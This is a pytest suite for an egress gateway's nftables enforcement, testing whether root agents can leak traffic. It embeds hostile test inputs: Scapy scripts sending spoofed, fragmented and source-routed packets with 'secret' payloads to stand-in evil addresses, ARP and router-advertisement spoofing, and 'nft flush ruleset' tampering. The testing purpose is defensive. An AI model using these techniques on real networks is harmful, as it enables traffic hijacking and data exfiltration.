"""The kernel plane of a whole gate: NFT-01 to -11 (without Docker: tests/docker), with a witness outside and agents that are root."""

import ast
import contextlib
import os
import re
import signal
import socket
import ssl
import statistics
import subprocess
import tempfile
import time

import pytest

from kernel_support import DB4, POLICY, flush, nft, wait_until
from small_internet import world
from small_internet.fixtures import Workload
from small_internet.gate import AGENTS, GATE4, P0, Gate, gateway_yaml
from small_internet.namespaces import sh

HERE = os.path.dirname(os.path.abspath(__file__))


@pytest.fixture
def gate(lab, agents):
    # Some rows are about many clients, which live on one port here.
    text = gateway_yaml("real").replace("interfaces: [br-agents]", "interfaces: [br-agents], addresses_per_port: 200")
    made = Gate(lab, text, POLICY).start()
    yield made
    made.stop()


def attack(work, seconds, *kinds):
    return work.root("/usr/bin/python3", f"{HERE}/attacker.py", str(seconds), *([",".join(kinds)] if kinds else []), timeout=seconds + 30)


def test_every_protocol_to_everywhere(gate, work, witness):
    """NFT-01, NFT-02, NFT-06: TCP, UDP, ICMP, SCTP, GRE, raw, marked and spoofed packets, v4 and v6, as root."""
    with witness.expect_zero():
        run = attack(work, 3)
    assert run.status == 0 and all(n > 10 for n in run.json().values()), run


EVERYWHERE = [v for k, v in vars(world).items() if k.isupper() and isinstance(v, str) and re.fullmatch("[0-9.]+|[0-9a-f]*:[0-9a-f:]+", v)]

SWEEP = """
import socket, sys
for address in sys.argv[1:]:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    for kind, proto in [(socket.SOCK_DGRAM, 0)] + [(socket.SOCK_RAW, p) for p in (1, 4, 41, 47, 50, 58, 88, 103, 132, 253)]:
        for port in (0, 53, 123, 443, 853, 5353) if kind == socket.SOCK_DGRAM else (0,):
            with socket.socket(family, kind, proto) as s:
                try: s.sendto(b"\\x08" + b"secret " * 8, (address, port or (9 if kind == socket.SOCK_DGRAM else 0)))
                except OSError: pass
print("sent")
"""


def test_every_protocol_to_every_address_of_the_internet(gate, work, witness):
    """NFT-01: and TCP to the ports that servers there have."""
    assert len(EVERYWHERE) > 20, EVERYWHERE
    with witness.expect_zero():
        assert work.root("/usr/bin/python3", "-c", SWEEP, *EVERYWHERE).text == "sent\n"
        results, run = work.probe([{"do": "tcp", "to": [a, p], "send": "00", "timeout": 9} for a in EVERYWHERE for p in (22, 23, 80, 443, 853, 8080)], threads=64)
    assert not [r for r in results if r.get("end") in ("enough", "timeout")], (results, run)


UNPRIVILEGED = """
import socket, struct, subprocess, json
def attempt(what):
    try: return what() or "done"
    except OSError as error: return error.errno
def mark():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.setsockopt(socket.SOL_SOCKET, 36, struct.pack("=I", 0x54000000))
def raw(family, kind, proto):
    socket.socket(family, kind, proto).close()
tried = {"mark": attempt(mark)}
for family, kind, proto in ((socket.AF_INET, socket.SOCK_RAW, 17), (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_PACKET, socket.SOCK_DGRAM, 0)):
    tried[f"raw {family} {kind}"] = attempt(lambda: raw(family, kind, proto))
for command in ("nft flush ruleset", "ip route add 203.0.113.0/24 via 172.20.0.8", "ip rule add fwmark 1 lookup 9", "ip link set eth0 down", "ip addr add 172.20.0.8/16 dev eth0", "ip neigh replace 172.20.0.8 lladdr 02:00:00:00:00:01 dev eth0"):
    done = subprocess.run(command.split(), capture_output=True, text=True)
    tried[command] = 1 if done.returncode and "not permitted" in done.stderr else done.stderr or "done"
print(json.dumps(tried))
"""


def test_root_without_the_two_capabilities(gate, work, witness):
    """NFT-06: what Docker's defaults leave, less NET_RAW and NET_ADMIN: EPERM for each."""
    dropped = ("setpriv", "--bounding-set=-net_raw,-net_admin", "--inh-caps=-net_raw,-net_admin")
    with witness.expect_zero():
        run = work.root(*dropped, "/usr/bin/python3", "-c", UNPRIVILEGED)
    assert set(run.json().values()) == {1}, run


SCAPY = """
import sys
from scapy.all import *
conf.verb = 0
mac = getmacbyip("172.20.0.1")
evil4, evil6 = "185.199.108.66", "2a0a:e5c0::66"
def out(p): sendp(Ether(dst=mac)/p, iface="eth0")
def out6(p): sendp(Ether(dst=sys.argv[1])/p, iface="eth0")
big = IP(dst=evil4)/UDP(sport=1, dport=4433)/(b"x" * 3000)
for f in fragment(big, fragsize=600): out(f)
out(IP(dst=evil4, flags="MF", frag=0, id=7)/UDP(sport=1, dport=443)/(b"a" * 64))
out(IP(dst=evil4, flags=0, frag=4, id=7)/(b"b" * 64))           # overlaps the first
out(IP(dst=evil4, options=IPOption_LSRR(routers=["9.9.9.9"]))/UDP(sport=1, dport=4433)/b"routed")
out(IP(dst=evil4, options=IPOption_SSRR(routers=["9.9.9.9"]))/TCP(sport=1, dport=443, flags="S"))
out(IP(src="172.20.0.8", dst=evil4)/UDP(sport=1, dport=4433)/b"spoofed")
out(IP(src="5.9.10.2", dst=evil4)/UDP(sport=1, dport=4433)/b"spoofed")
out(IP(src="172.20.0.8", dst=evil4)/TCP(sport=1, dport=443, flags="S"))
for proto in (2, 41, 47, 50, 51, 89, 103, 132, 136, 253, 255): out(IP(dst=evil4, proto=proto)/(b"z" * 32))
out(IP(dst=evil4)/IP(dst=evil4)/UDP(dport=4433)/b"in ip")
out6(IPv6(dst=evil6)/UDP(sport=1, dport=4433)/b"six")
out6(IPv6(dst=evil6)/IPv6ExtHdrFragment(m=1, offset=0, id=9)/UDP(sport=1, dport=443)/(b"a" * 64))
out6(IPv6(dst=evil6)/IPv6ExtHdrRouting(addresses=["2620:fe::fe"])/UDP(sport=1, dport=4433)/b"routed")
out6(IPv6(dst=evil6)/IPv6ExtHdrHopByHop()/IPv6ExtHdrDestOpt()/UDP(sport=1, dport=4433)/b"options")
for kind in (0x0800, 0x86DD, 0x8847, 0x8863, 0x88CC): sendp(Ether(dst=mac, type=kind)/(b"q" * 60), iface="eth0")
question = DNS(rd=1, qd=DNSQR(qname="db.example.test"))
out(IP(src="172.20.0.8", dst="172.20.0.1")/UDP(sport=1, dport=53)/question)
out(IP(src="172.20.0.8", dst="8.8.8.8")/UDP(sport=1, dport=53)/question)
out6(IPv6(src="fd00:20::8", dst="fd00:20::1")/UDP(sport=1, dport=53)/question)
print("sent")
"""


def test_fragments_source_routes_and_odd_protocols(gate, lab, agents, work, other, witness):
    """NFT-11, NFT-01: nothing of it arrives, reassembled or not; a query in another client's name binds nothing for it."""
    mac = sh("ip", "netns", "exec", lab.namespaces.host, "cat", "/sys/class/net/br-agents/address").strip()
    for address in (GATE4, "fd00:20::1"):
        other.run("ping", "-c1", "-W1", address)  # its addresses are its port's
    with witness.expect_zero():
        run = work.root("/usr/bin/python3", "-c", SCAPY, mac, timeout=60)
        gate.wait_audit(plugin="nftables", reason="source_spoofed")
    assert "sent" in run.text, run
    assert not gate.audit(plugin="dns"), gate.audit(plugin="dns")
    assert "172.20.0.8 ." not in sh("ip", "netns", "exec", lab.namespaces.host, "nft", "list", "set", "inet", "sallyport", "bound4")


@pytest.mark.parametrize("server", ["8.8.8.8", "2001:4860:4860::8888"])
@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
def test_other_resolvers_are_ours(gate, work, witness, server, tcp):
    """NFT-02: redirected to us."""
    with witness.expect_zero():
        denied = work.dig(*(["+tcp"] if tcp else []), "evil.test", server=server)
    assert "NXDOMAIN" in denied.text, denied
    with witness.expect_only("api.example.test"):
        allowed = work.dig(*(["+tcp"] if tcp else []), "+short", "api.example.test", server=server)
    assert world.GOOD4 in allowed.text, allowed


def test_a_binding_opens_the_kernel_for_that_client_and_address(gate, work, other, witness):
    """UDP by name: nothing before the name is asked, an answer afterwards, for who asked, on that port."""
    def ask(workload, port=5353):
        results, _ = workload.probe([{"do": "udp", "to": [DB4, port], "send": "beef", "timeout": 1}])
        return results[0].get("data")

    with witness.expect_zero():
        assert ask(work) is None
    assert work.dig("+short", "db.example.test").text.strip() == DB4
    with witness.expect_only(ports=[(DB4, 5353)]):
        assert ask(work) == "beef"
    with witness.expect_zero():
        assert ask(work, 4433) is None
        assert ask(other) is None


def test_everything_killed(gate, lab, work, witness):
    """NFT-03: the warden and every worker by SIGKILL: still nothing leaves, not even what was allowed a moment ago."""
    work.dig("+short", "db.example.test")
    gate.kill()
    time.sleep(0.5)
    with witness.expect_zero():
        run = attack(work, 2)
        assert work.curl("https://api.example.test/").status != 0
    assert run.status == 0


def test_from_before_the_start_to_after(lab, agents, work, other, witness):
    """NFT-04. The tables are there before the first gate starts (a host that boots has them from an earlier run), or come first."""
    first = Gate(lab, gateway_yaml("real"), POLICY).start()
    first.process.terminate()
    first.process.wait(20)  # closed is the resting state: the tables stay
    with witness.expect_only("api.example.test", ports=[(world.GOOD4, 443), (world.GOOD6, 443)]):
        started = other.start("/usr/bin/python3", f"{HERE}/attacker.py", "6", uid=0, env={"PAUSE": "0"})
        time.sleep(1)
        second = Gate(lab, gateway_yaml("real"), POLICY).start()
        try:
            assert work.curl("https://api.example.test/whoami").status == 0
            made = lab.finish(started, 30).json()
        finally:
            second.process.terminate()
            second.process.wait(20)
    second.stop()
    first.stop()
    assert all(n > 50 for n in made.values()), made


@contextlib.contextmanager
def watched_tables(lab):
    """At its end: for each transaction of the block that touched tables of ours, which were deleted and which were added."""
    transactions = []
    with tempfile.TemporaryFile("w+") as file:
        monitor = lab.namespaces.spawn(lab.namespaces.host_fd, ["nft", "monitor"], stdout=file, stderr=file, env={"PATH": os.environ["PATH"]})
        time.sleep(0.3)
        yield transactions
        time.sleep(0.3)
        monitor.terminate()
        monitor.wait(5)
        file.seek(0)
        text = file.read()
    assert "lost" not in text, "of the netlink events"
    for one in re.split(r"# new generation .*\n", text):
        deleted, added = (set(re.findall(rf"^{word} table (\w+ sallyport\w*)$", one, re.M)) for word in ("delete", "add"))
        if deleted or added:
            transactions.append((deleted, added))


def test_a_hundred_reloads_under_fire(gate, lab, work, other, witness):
    """NFT-05: the tables are replaced at every fifth, each in one transaction, while more than a thousand packets a second are tried."""
    with witness.expect_zero(), watched_tables(lab) as transactions:
        started = other.start("/usr/bin/python3", f"{HERE}/attacker.py", "12", "udp4,udp6,ping,gre,sctp,mark,spoof,ping6", uid=0, env={"PAUSE": "0"})
        before = gate.status()["generation"]
        for i in range(100):
            if i % 5 == 0:  # another network is held, or no longer
                extra = "networks:\n  more: { addresses: [10.77.0.0/16] }\n" if i % 10 else "networks:\n"
                gate.write(gate.config, gateway_yaml("real").replace("networks:\n", extra))
            gate.write(gate.policy_file, f"{POLICY}\n# {i}\n")
            gate.hang_up()
            time.sleep(0.1)
        made = lab.finish(started, 40).json()
    assert gate.status()["generation"] >= before + 50
    assert sum(made.values()) > 12_000, made
    assert len(transactions) >= 15 and all(deleted == added for deleted, added in transactions), transactions


def test_another_topology_replaces_the_tables_once(gate, lab, work, witness):
    """And what the sets hold comes with them: a bound flow goes on, a new one by the same binding too."""
    assert work.dig("+short", "db.example.test").text.strip() == DB4
    wait_until(lambda: gate.health("nftables").get("elements") == 2)  # 123/udp and 5353/udp
    monitor = subprocess.Popen(["ip", "netns", "exec", lab.namespaces.host, "nft", "monitor"], stdout=subprocess.PIPE, text=True)
    try:
        time.sleep(0.5)
        generation = gate.status()["generation"]
        gate.write(gate.config, gateway_yaml("real").replace("networks:\n", "networks:\n  more: { addresses: [10.77.0.0/16] }\n"))
        wait_until(lambda: gate.status()["generation"] > generation)
        time.sleep(1.5)
    finally:
        monitor.terminate()
    seen = monitor.communicate()[0]
    assert seen.count("add table inet sallyport") == 1 and seen.count("add table bridge sallyport") == 1, seen
    assert "10.77.0.0/16" in sh("ip", "netns", "exec", lab.namespaces.host, "nft", "list", "table", "inet", "sallyport")
    assert gate.health("nftables")["elements"] == 2 and not gate.audit(reason="ruleset_tampered")
    results, _ = work.probe([{"do": "udp", "to": [DB4, 5353], "send": "beef", "timeout": 1}])
    assert results[0].get("data") == "beef", results


def test_another_bridge_takes_no_address_of_ours(gate, lab, work, other):
    """Claims are of the held bridges' ports: whoever has the same addresses elsewhere on this host has them there."""
    host = lab.namespaces.host
    space = f"sp-{os.getpid()}-foreign"
    sh("ip", "netns", "add", space)
    try:
        sh("ip", "-n", host, "link", "add", "br-foreign", "type", "bridge", "forward_delay", "0")
        sh("ip", "-n", host, "link", "set", "br-foreign", "up")
        sh("ip", "link", "add", "eth0", "netns", space, "type", "veth", "peer", "name", "v-foreign", "netns", host)
        sh("ip", "-n", host, "link", "set", "v-foreign", "master", "br-foreign", "up")
        wait_until(lambda: "v-foreign" in sh("ip", "netns", "exec", host, "nft", "list", "set", "bridge", "sallyport", "foreign"))
        sh("ip", "-n", space, "addr", "add", "172.20.0.9/16", "dev", "eth0")
        sh("ip", "-n", space, "link", "set", "eth0", "up")
        subprocess.run(["ip", "netns", "exec", space, "ping", "-c2", "-W1", "172.20.0.77"], stdout=subprocess.DEVNULL)
        assert "172.20.0.9" not in sh("ip", "netns", "exec", host, "nft", "list", "set", "bridge", "sallyport", "claimed4")
        work.root("ip", "addr", "add", "172.20.0.9/16", "dev", "eth0")
        assert "NXDOMAIN" in work.dig("-b", "172.20.0.9", "evil.test").text
    finally:
        work.root("ip", "addr", "del", "172.20.0.9/16", "dev", "eth0")
        subprocess.run(["ip", "-n", host, "link", "del", "v-foreign"])
        subprocess.run(["ip", "-n", host, "link", "del", "br-foreign"])
        subprocess.run(["ip", "netns", "del", space])


def test_a_flushed_ruleset_is_put_back(gate, lab, work, witness):
    """NFT-07: within a second; the alarm is in the audit, health is red meanwhile, the gap is measured."""
    began = time.monotonic()
    subprocess.run(["ip", "netns", "exec", lab.namespaces.host, "nft", "flush", "ruleset"], check=True)
    while "table inet sallyport" not in sh("ip", "netns", "exec", lab.namespaces.host, "nft", "list", "tables"):
        assert time.monotonic() - began < 1.5, gate.log()[-2000:]
        time.sleep(0.01)
    taken = time.monotonic() - began
    assert taken < 1.0
    told = gate.wait_audit(reason="ruleset_tampered")[0]
    assert re.search(r"\b\d+ us$", told["cause"]) and told["plugin"] == "nftables", told
    with witness.expect_zero():
        attack(work, 1)
    subprocess.run(["ip", "netns", "exec", lab.namespaces.host, "nft", "-f", "-"], text=True, check=True,
                   input="table inet foreign_nat { chain post { type nat hook postrouting priority 100; oifname uplink masquerade; }; }\n")  # fmt: skip
    assert work.curl("https://api.example.test/whoami").status == 0, gate.log()[-2000:]


def test_health_is_red_while_somebody_keeps_flushing(gate, lab):
    """NFT-07: and green again when he stops."""
    seen, end = set(), time.monotonic() + 10
    while False not in seen:
        assert time.monotonic() < end, seen
        nft(lab, "flush ruleset")
        seen.add(gate.status()["healthy"])
    flush(lab)
    wait_until(lambda: gate.status()["healthy"] and "table inet sallyport" in sh("ip", "netns", "exec", lab.namespaces.host, "nft", "list", "tables"))


def test_a_foreign_table_opens_nothing(gate, lab, work, witness):
    """Another firewall's accept is not ours: drop is final."""
    rules = "table inet stranger { chain f { type filter hook forward priority -500; policy accept; accept; }; chain i { type filter hook input priority -500; accept; }; }\n"
    subprocess.run(["ip", "netns", "exec", lab.namespaces.host, "nft", "-f", "-"], input=rules, text=True, check=True)
    try:
        with witness.expect_zero():
            attack(work, 1)
        assert "table inet stranger" in sh("ip", "netns", "exec", lab.namespaces.host, "nft", "list", "tables")
    finally:
        subprocess.run(["ip", "netns", "exec", lab.namespaces.host, "nft", "delete", "table", "inet", "stranger"], check=True)


def test_revocation_closes_what_is_open(gate, lab, agents, work, witness):
    """NFT-08: a tunnel, a spliced flow and bound UDP, all within a second; the set element is gone."""
    assert work.dig("+short", "db.example.test").text.strip() == DB4
    held = []
    with lab.namespaces.inside(agents.fds["a"]):
        tunnel, direct, udp = socket.socket(), socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for s in (tunnel, direct, udp):
        s.settimeout(3)
    tunnel.connect((GATE4, 3128))
    tunnel.sendall(b"CONNECT db.example.test:5432 HTTP/1.1\r\nHost: db.example.test:5432\r\n\r\n")
    assert tunnel.recv(4096).startswith(b"HTTP/1.1 200 ")
    direct.connect((DB4, 5432))
    udp.connect((DB4, 5353))
    held = [tunnel, direct]
    for s in [*held, udp]:
        s.sendall(b"\0\1\2ping")
        assert s.recv(64) == b"\0\1\2ping"
    began = time.monotonic()
    gate.set_policy(P0)
    for s in held:
        try:
            assert s.recv(64) == b""
        except ConnectionResetError:
            pass
    with contextlib.suppress(OSError):
        while time.monotonic() - began < 1.2:
            udp.send(b"\0\1\2ping")
            udp.recv(64)
    assert time.monotonic() - began < 1.0
    with witness.expect_zero():
        with pytest.raises(OSError):
            udp.send(b"\0\1\2ping")
            udp.recv(64)
    assert DB4 not in sh("ip", "netns", "exec", lab.namespaces.host, "nft", "list", "table", "inet", "sallyport")
    for s in [*held, udp]:
        s.close()


def download(lab, agents, through):
    """A TLS connection of agent a in the middle of a long download from api.example.test, by way of `through`."""
    context = ssl.create_default_context(cafile=lab.servers.ca)
    with lab.namespaces.inside(agents.fds["a"]):
        s = socket.socket()
    s.settimeout(5)
    s.connect(through)
    if through[1] == 3128:
        s.sendall(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
        assert s.recv(4096).startswith(b"HTTP/1.1 200 ")
    tls = context.wrap_socket(s, server_hostname="api.example.test")
    tls.sendall(b"GET /slow HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
    size = 0
    while size < 300 << 10:  # well past the 64 kB after which it goes through pipes
        size += len(tls.recv(65536))
    return tls


def pipes(gate):
    """How many pipes the workers that carry flows hold."""
    found = 0
    for pid, names in gate.workers().items():
        if {"http-proxy", "sni-filter"} & set(names):
            for fd in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    found += os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:")
    return found


def test_revocation_closes_what_is_spliced(gate, lab, agents, work, witness):
    """NFT-08: a TLS flow that goes from socket to pipe to socket, transparently and in a tunnel, each in the middle of a transfer."""
    assert world.GOOD4 in work.dig("+short", "api.example.test").text
    before = pipes(gate)
    flows = [download(lab, agents, (world.GOOD4, 443)), download(lab, agents, (GATE4, 3128))]
    assert pipes(gate) >= before + 4, "two for each"
    gate.set_policy(POLICY.replace("domains: [api.example.test]", "domains: [www.example.test]"))
    live = time.monotonic()
    for one in flows:
        with contextlib.suppress(ConnectionResetError, ssl.SSLError):
            while one.recv(65536):
                assert time.monotonic() < live + 1
        assert time.monotonic() < live + 1
        one.close()
    for plugin in ("sni-filter", "http-proxy"):
        assert gate.wait_audit(name="api.example.test", plugin=plugin, kind="close", reason="revoked")
    with witness.expect_zero():
        assert work.curl("--resolve", f"api.example.test:443:{world.GOOD4}", "https://api.example.test/whoami").status != 0
        assert work.curl("-x", f"http://{GATE4}:3128", "https://api.example.test/whoami").status != 0


def test_agents_reach_neither_each_other_nor_the_host(gate, lab, agents, work, other, witness):
    """NFT-10 on a bridge: the other agent, the bridge's address, the host's others; by v4 and v6. All local traffic that is not the
    gateway's, UDP and echo requests too."""
    with lab.namespaces.inside(agents.fds["b"]):
        servers = [socket.create_server(("", 9999)), socket.create_server(("::", 9999), family=socket.AF_INET6)]
    with lab.namespaces.inside(lab.namespaces.host_fd):
        servers += [socket.create_server(("", 2375)), socket.create_server(("::", 2375), family=socket.AF_INET6)]
    targets = [*AGENTS["b"], GATE4, "fd00:20::1", "172.20.0.2", world.HOST4, world.HOST6]
    with lab.namespaces.inside(lab.namespaces.host_fd):
        listening = [socket.socket(family, socket.SOCK_DGRAM) for family in (socket.AF_INET, socket.AF_INET6)]
        listening[1].setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        for one in listening:
            one.bind(("", 2375))
            one.setblocking(False)
    results, run = work.probe([{"do": "tcp", "to": [t, p], "send": "00", "timeout": 3} for t in targets for p in (22, 2375, 9999)], threads=21)
    assert not [r for r in results if r.get("data")], results
    results, run = work.probe([{"do": "udp", "to": [t, 2375], "send": "00", "timeout": 1} for t in targets], threads=7)
    assert not [r for r in results if r.get("data")], results
    for one in listening:
        with one, pytest.raises(BlockingIOError):
            one.recv(16)
    for server in servers:
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()
        server.close()
    for target in (*AGENTS["b"], "172.20.0.2", world.HOST4, world.HOST6):
        assert work.run("ping", "-c1", "-W1", target).status != 0


def test_an_internal_pair_is_open_for_the_policys_clients(lab, agents, work, other):
    policy = P0.replace("rules:", '  b: { addresses: [172.20.0.8/32] }\nrules:').replace('agents: { addresses: [172.20.0.0/16, "fd00:20::/64"] }', "agents: { addresses: [172.20.0.7/32] }")
    made = Gate(lab, gateway_yaml("real", extra="internal: [[agents, b]]\n"), policy).start()
    try:
        with lab.namespaces.inside(agents.fds["b"]):
            server = socket.create_server(("", 9999))
        # Whoever was asked for in vain a moment ago is unreachable for what is left of that second.
        for one in (work, other):
            assert one.root("ip", "neigh", "flush", "dev", "eth0").status == 0
        with server:
            results, run = work.probe([{"do": "tcp", "to": ["172.20.0.8", 9999], "timeout": 3, "read": 1, "send": "00"}])
            server.settimeout(1)
            connection, peer = server.accept()
            assert peer[0] == "172.20.0.7", run
            connection.close()
    finally:
        made.stop()


ADVERTISE = """
import sys
from scapy.all import *
conf.verb = 0
for dst in ("ff02::1", "fd00:20::8"):
    sendp(Ether(dst="33:33:00:00:00:01")/IPv6(src="fe80::7", dst=dst)/ICMPv6ND_RA(routerlifetime=1800)/ICMPv6NDOptPrefixInfo(prefix="fd66::", prefixlen=64), iface="eth0")
sendp(Ether(dst="ff:ff:ff:ff:ff:ff")/ARP(op=2, psrc="172.20.0.1", pdst="172.20.0.8", hwdst="ff:ff:ff:ff:ff:ff"), iface="eth0")
print("sent")
"""


def test_router_advertisements_and_arp_in_anothers_name(gate, work, other):
    """Neither a new route nor the gateway's address in another's hands."""
    other.root("sysctl", "-qw", "net.ipv6.conf.eth0.accept_ra=2")
    assert "sent" in work.root("/usr/bin/python3", "-c", ADVERTISE, timeout=60).text
    time.sleep(0.5)
    routes = other.run("ip", "-6", "route").text
    assert "fd66::" not in routes and "ra" not in routes.split(), routes
    assert other.curl("https://api.example.test/whoami").status == 0


def test_an_address_taken_over_by_a_new_container(gate, lab, agents, work, witness):
    """Bindings belong to who asked; a new agent under an old address works, and inherits nothing."""
    agents.add("c", ("172.20.0.9", "fd00:20::9"))
    try:

        AGENTS["c"] = ("172.20.0.9", "fd00:20::9")
        first = Workload(lab, agents, "c")
        assert first.curl("https://api.example.test/whoami").status == 0
        agents.remove("c")
        agents.add("c", ("172.20.0.9", "fd00:20::9"))
        end = time.monotonic() + 5
        while (run := first.curl("https://api.example.test/whoami")).status != 0:
            assert time.monotonic() < end, f"{run}\n{gate.log()[-2000:]}"
    finally:
        if "c" in agents.fds:
            agents.remove("c")
        AGENTS.pop("c", None)


ASK = """
import socket, struct, sys, time
def ask(source, name):
    wire = b"".join(bytes([len(part)]) + part for part in name.encode().split(b".")) + b"\\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.bind((source, 0))
        s.connect(("172.20.0.1", 53))
        began = time.perf_counter()
        s.send(struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!2H", 1, 1))
        answer = s.recv(4096)
        return round((time.perf_counter() - began) * 1e6), answer[3] & 15
print([ask(source, name) for source in sys.argv[2:] for name in sys.argv[1].split(",")])
"""


def more_addresses(agents, name, addresses):
    """Each is a client of its own."""
    lines = "".join(f"addr add {a}/16 dev eth0\n" for a in addresses)
    subprocess.run(["ip", "-n", agents.namespaces[name], "-batch", "-"], input=lines, text=True, check=True)


def test_a_binding_is_in_the_kernel_within_two_milliseconds(gate, agents, work, other, witness):
    """The median of whole answers: one leaves when its binding is in the kernel, so no binding takes longer. Names are in the cache."""
    clients = [f"172.20.4.{i}" for i in range(1, 121)]
    more_addresses(agents, "b", clients)
    assert work.dig("+short", "db.example.test").text.strip() == DB4
    medians = []
    for part in (clients[:40], clients[40:80], clients[80:]):
        took = ast.literal_eval(other.root("/usr/bin/python3", "-c", ASK, "db.example.test,evil.test", *part).text)
        bound, refused = [us for us, rcode in took if rcode == 0], [us for us, rcode in took if rcode == 3]
        assert len(bound) == len(refused) == len(part), took
        medians.append((statistics.median(bound), statistics.median(refused)))
    wait_until(lambda: gate.health("nftables")["elements"] == 2 * (1 + len(clients)))  # 123/udp and 5353/udp
    best = min(medians)
    print(f"answer with a new binding in the kernel: median {best[0]:.0f} us; refused, with none: {best[1]:.0f} us")
    assert best[0] < 2000, medians
    with witness.expect_only(ports=[(DB4, 5353)]):
        results, _ = other.probe([{"do": "udp", "to": [DB4, 5353], "send": "beef", "timeout": 2, "from": clients[7]}])
        assert results[0].get("data") == "beef", results


def live_ms(gate):
    """How long each publication so far has taken until every enforcer had it."""
    return [float(ms) for ms in re.findall(r"generation \d+ live in ([0-9.]+) ms", gate.log())]


def test_ten_thousand_elements_and_a_reload(gate, lab, agents, work, other, witness):
    """NFT-05, NFT-08: decided again, revoked, and put back after a flush: each whole, and nothing leaks while a policy is reloaded."""
    ranges = ", ".join(f"{first}-{first + 15}/udp" for first in range(10_000, 11_200, 20))
    policy = f"{POLICY}  - {{ name: many, action: allow, clients: [agents], domains: [db.example.test], ports: [{ranges}] }}\n"
    clients = [f"172.20.5.{i}" for i in range(1, 12)]
    gate.set_policy(policy)
    more_addresses(agents, "a", clients)
    assert work.root("/usr/bin/python3", "-c", ASK, "db.example.test", *clients).text.count(", 0)") == len(clients)
    wait_until(lambda: gate.health("nftables")["elements"] >= 10_000)

    def reload(text):
        before = len(live_ms(gate))
        gate.set_policy(text)
        wait_until(lambda: len(live_ms(gate)) > before)
        return live_ms(gate)[-1]

    with witness.expect_zero():
        started = other.start("/usr/bin/python3", f"{HERE}/attacker.py", "3", uid=0, env={"PAUSE": "0"})
        again = min(reload(f"{policy}# {i}\n") for i in range(3))
        assert gate.health("nftables")["elements"] >= 10_000
        lab.finish(started, 20)
    before = gate.health("nftables").get("reasserted", 0)
    flush(lab)
    wait_until(lambda: gate.health("nftables").get("reasserted", 0) > before)
    gap = gate.health("nftables")["last_gap_us"] / 1000
    assert gate.health("nftables")["elements"] >= 10_000
    with witness.expect_zero():
        started = other.start("/usr/bin/python3", f"{HERE}/attacker.py", "2", uid=0, env={"PAUSE": "0"})
        gone = reload(P0)
        wait_until(lambda: gate.health("nftables")["elements"] == 0)
        lab.finish(started, 20)
    assert DB4 not in sh("ip", "netns", "exec", lab.namespaces.host, "nft", "list", "table", "inet", "sallyport")
    print(f"10,000 elements: reloaded in {again:.0f} ms, put back after a flush in {gap:.0f} ms, revoked in {gone:.0f} ms; 0 packets leaked")
    assert again < 300 and gap < 300 and gone < 1000


@pytest.fixture
def steered(lab, agents):
    """A gate whose transparent listener is TPROXY's."""
    agents.pass_bridged_packets_to_iptables(False)
    made = Gate(lab, gateway_yaml("real").replace("transparent: redirect", "transparent: tproxy"), POLICY).start()
    yield made
    made.stop()
    agents.pass_bridged_packets_to_iptables(True)


def routes(lab):
    """The rule and the route of TPROXY, of both families: how many are there."""
    text = "".join(sh("ip", "-n", lab.namespaces.host, *command) for command in (("rule",), ("-6", "rule")))
    for family in ((), ("-6",)):
        found = subprocess.run(["ip", "-n", lab.namespaces.host, *family, "route", "show", "table", "1398"], capture_output=True, text=True)
        text += found.stdout
    return text.count("lookup 1398") + text.count("local default dev lo")


def test_tproxy_without_its_routes_is_closed_and_they_are_put_back(steered, lab, work, witness):
    """NFT-07 of the routes: what is missing only closes; within a second or two they are there again, and it is told."""
    assert routes(lab) == 4
    assert work.curl("https://api.example.test/whoami").status == 0
    with witness.expect_only("api.example.test", ports=[(world.GOOD4, 443), (world.GOOD6, 443)]):
        for family in ("-4", "-6"):
            sh("ip", "-n", lab.namespaces.host, family, "rule", "del", "priority", "1398")
            sh("ip", "-n", lab.namespaces.host, family, "route", "flush", "table", "1398")
        attack(work, 1, "tcp4", "tcp6", "spoof", "mark")
        wait_until(lambda: routes(lab) == 4)
        steered.wait_audit(reason="ruleset_tampered")
        assert work.curl("https://api.example.test/whoami").status == 0
        attack(work, 1)


def test_tproxy_without_its_table_is_closed(steered, lab, work, witness):
    """NFT-07: the flush takes the marks away, and what is not marked is not delivered here."""
    before = steered.health("nftables").get("reasserted", 0)
    flush(lab)
    wait_until(lambda: steered.health("nftables").get("reasserted", 0) > before)
    with witness.expect_zero():
        attack(work, 1)
    assert work.curl("https://api.example.test/whoami").status == 0


def test_tproxy_and_workers_that_are_killed(steered, lab, work, witness):
    """NFT-03."""
    for pid in steered.workers():
        os.kill(pid, signal.SIGKILL)
    steered.kill()
    with witness.expect_zero():
        attack(work, 1)
        assert work.curl("https://api.example.test/").status != 0
    assert routes(lab) == 4
    steered.stop()
    assert routes(lab) == 0


def test_the_transparent_port_and_the_hosts_services_through_tproxy(steered, lab, work, witness):
    """NFT-10: the listener's own port, and what else listens on the host's addresses, by v4 and v6."""
    with lab.namespaces.inside(lab.namespaces.host_fd):
        servers = [socket.create_server(("", 2375)), socket.create_server(("::", 2375), family=socket.AF_INET6)]
    targets = [GATE4, "fd00:20::1", "172.20.0.2", world.HOST4, world.HOST6]
    with witness.expect_zero():
        results, run = work.probe([{"do": "tcp", "to": [t, p], "send": "00", "timeout": 3} for t in targets for p in (22, 443, 2375, 15001)], threads=20)
    # A reset, or the filter's own TLS alert.
    assert not [r for r in results if r.get("data", "")[:2] not in ("", "15") or r.get("end") == "timeout"], (results, run)
    for server in servers:
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()
        server.close()


def test_tproxy_where_bridged_packets_go_through_iptables_does_not_start(lab, agents, work, witness):
    """What would hang is refused in words, and the kernel is closed all the same."""
